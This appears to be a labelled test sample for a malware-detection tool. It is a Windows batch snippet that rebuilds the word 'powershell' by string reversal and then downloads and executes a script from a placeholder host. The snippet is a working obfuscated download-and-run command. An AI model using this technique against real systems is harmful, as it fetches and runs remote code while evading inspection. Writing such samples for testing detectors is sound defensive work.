@rem expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
setlocal enabledelayedexpansion
set x=llehsrewop
set y=
for /l %%i in (9,-1,0) do set y=!y!!x:~%%i,1!
!y! -c "iex (irm http://files.example.invalid/s)"
